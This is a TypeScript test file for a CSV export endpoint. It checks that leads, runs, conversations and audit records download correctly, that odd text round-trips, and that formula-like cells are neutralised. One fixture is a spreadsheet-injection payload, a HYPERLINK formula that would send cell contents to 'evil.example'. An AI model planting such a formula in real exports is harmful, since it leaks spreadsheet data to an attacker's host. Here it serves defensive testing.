import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import { AuditEventEntity } from '@zactonics/db';
import { parse } from 'csv-parse/sync';
import express from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createConsoleContext } from '../console-context.js';
import { serveRoutes } from './hub-http-server.js';
import { openSeededServices, type SeededServices } from '../testing/seeded-services.js';
import { listExportRoute } from './list-export-route.js';

const NOW = new Date('2026-11-26T15:00:00.000Z');
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
/** What a person or a visitor may type: commas, quotes, line breaks, accents, emoji. */
const AWKWARD = 'Zoë "Zo" Ångström, Potter\nSecond line 😀';

let fixture: SeededServices;
let server: Server;
let base: string;
let key: string;
let keyId: string;

async function sql(text: string, params: unknown[] = []): Promise<{ id: string }[]> {
  return (await fixture.db.dataSource.query(text, params)) as { id: string }[];
}

beforeAll(async () => {
  fixture = await openSeededServices({ now: NOW, actor: 'api_key:list-export-route-spec' });
  const { services, ctx } = fixture;
  const made = await services.apiKeys.createForConsole({ ...ctx, role: 'OWNER' }, 'Bookkeeper');
  key = made.plainKey;
  keyId = made.apiKey.id;
  const ws = ctx.workspaceId;
  await sql(
    `INSERT INTO lead (workspace_id, email, name, company, score, tier, scored_at, stage)
     VALUES ($1, 'zoe@example.com', $2, $3, 99, 'HOT', now(), 'NEW'),
            ($1, 'mallory@example.com', $4, '+1 555 0100', 98, 'HOT', now(), 'NEW')`,
    [ws, AWKWARD, 'Atelier, "Ltd"', FORMULA],
  );
  const [conversation] = await sql(
    `INSERT INTO conversation (workspace_id, customer_email, handoff_state, message_seq)
     VALUES ($1, '@mallory@example.com', 'HUMAN_REQUESTED', 1) RETURNING id`,
    [ws],
  );
  await sql(
    `INSERT INTO conversation_message (workspace_id, conversation_id, role, text, seq)
     VALUES ($1, $2, 'CUSTOMER', $3, 1)`,
    [ws, conversation?.id, `-2+3 ${AWKWARD}`],
  );
  await sql(
    `INSERT INTO audit_event (workspace_id, actor, action, target_type, target_id, data, created_at)
     VALUES ($1, $2, 'lead.note', 'lead', 'zoe@example.com', $3, '2026-11-26T14:00:00Z')`,
    [ws, `api_key:${keyId}`, JSON.stringify({ note: AWKWARD, formula: FORMULA })],
  );
  // A run the Bookkeeper key started, failed with a code, and a note that looks like a formula.
  const bookkeeper = createConsoleContext(services, ws, `api_key:${keyId}`, { role: 'ADMIN' });
  const run = await services.runs.start(bookkeeper, {
    agentKey: 'support',
    input: { question: 'Do you ship to Zürich?' },
  });
  await sql(
    `UPDATE run SET status = 'FAILED', error_code = 'TOOL_NOT_AVAILABLE', error = $2,
            started_at = $3, finished_at = $4 WHERE id = $1`,
    [run.id, `@SUM(1) ${AWKWARD}`, '2026-11-26T14:00:00Z', '2026-11-26T14:00:01.234Z'],
  );
  const app = express();
  // Mounted as the hub mounts its routes: refusals are answered by its JSON error handler.
  serveRoutes(app, [listExportRoute(services, { now: () => NOW })], {
    development: false,
    log: () => undefined,
  });
  server = app.listen(0, '127.0.0.1');
  await new Promise((done) => server.once('listening', done));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/exports`;
}, 120_000);

afterAll(async () => {
  if (server) await new Promise((done) => server.close(done));
  await fixture?.close();
});

const download = (path: string, credential: string | null = key) =>
  fetch(`${base}/${path}`, {
    headers: credential ? { authorization: `Bearer ${credential}` } : {},
  });

/** The file as a spreadsheet reads it: csv-parse with the byte order mark and headers. */
async function rowsOf(response: Response): Promise<Record<string, string>[]> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(Buffer.from(bytes), { bom: true, columns: true }) as Record<string, string>[];
}

describe('GET /exports/<list>.csv', () => {
  it('downloads the leads as the list shows them; awkward text round-trips, formulas are inert', async () => {
    const response = await download('leads.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="leads-2026-11-26.csv"',
    );
    const rows = await rowsOf(response);
    const listed = await fixture.services.leads.list(fixture.ctx, 500);
    expect(rows.map((r) => r['email'])).toEqual(listed.map((l) => l.email));
    expect(rows[0]).toMatchObject({ name: AWKWARD, company: 'Atelier, "Ltd"', score: '99' });
    expect(rows[1]).toMatchObject({ name: `'${FORMULA}`, company: `'+1 555 0100` });
  });

  it('names who started each run and says its error in words', async () => {
    const rows = await rowsOf(await download('runs.csv?status=FAILED'));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      status: 'FAILED',
      started_by: 'API key “Bookkeeper”',
      duration_seconds: '1.2',
      error_code: 'TOOL_NOT_AVAILABLE',
      error: 'A tool this scenario needs is not built yet.',
      error_detail: `'@SUM(1) ${AWKWARD}`,
    });
    expect(rows[0]?.['agent']).toMatch(/support/i);
    expect(await rowsOf(await download('runs.csv?status=SUCCEEDED'))).toEqual([]);
  });

  it('keeps the conversation filter and makes a message that starts like a formula inert', async () => {
    const rows = await rowsOf(await download('conversations.csv?state=HUMAN_REQUESTED'));
    expect(rows).toEqual([
      expect.objectContaining({
        state: 'HUMAN_REQUESTED',
        customer_email: "'@mallory@example.com",
        last_message_from: 'CUSTOMER',
        last_message: `'-2+3 ${AWKWARD}`,
      }),
    ]);
  });

  it('exports the audit log with the actor by name and the data as JSON, audited itself', async () => {
    const rows = await rowsOf(await download('audit.csv?action=lead.note'));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      actor: 'API key “Bookkeeper”',
      actor_id: `api_key:${keyId}`,
      action: 'lead.note',
      target_id: 'zoe@example.com',
    });
    expect(JSON.parse(rows[0]?.['data'] ?? '')).toEqual({ note: AWKWARD, formula: FORMULA });
    const audited = await fixture.db.dataSource.manager.findBy(AuditEventEntity, {
      workspaceId: fixture.ctx.workspaceId,
      action: 'list.export',
      targetId: 'audit',
    });
    expect(audited.map((a) => a.data)).toEqual([{ filters: { action: 'lead.note' } }]);
  });

  it('refuses a caller without a credential, a bad filter and an unknown list', async () => {
    const anonymous = await download('leads.csv', null);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({
      errors: [{ extensions: { errorCode: 'UNAUTHENTICATED' } }],
    });
    const bad = await download('runs.csv?status=DONE');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({
      errors: [{ extensions: { errorCode: 'INVALID_INPUT' } }],
    });
    expect((await download('audit.csv?from=yesterday')).status).toBe(400);
    expect((await download('secrets.csv')).status).toBe(404);
  });
});
